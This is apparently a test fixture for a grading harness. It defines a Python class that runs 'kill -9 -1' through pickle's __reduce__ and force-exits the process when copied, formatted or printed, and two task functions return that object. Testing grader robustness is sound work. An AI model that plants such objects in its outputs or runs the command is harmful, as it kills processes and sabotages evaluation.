# Objects that run code where they are unpickled, copied, formatted or hashed.
# verdict: make_dictionary failed|error, encode_words failed|error, others passed
# %%
class Payload:
    def __reduce__(self):
        import os

        return os.system, ("kill -9 -1",)

    def run(self, *data):
        import os

        os._exit(99)

    __copy__ = __deepcopy__ = __repr__ = __str__ = __format__ = run


# %% make_dictionary
def make_dictionary(examples):
    return {"love": Payload()}


# %% encode_words
def encode_words(words, numbers):
    return Payload()
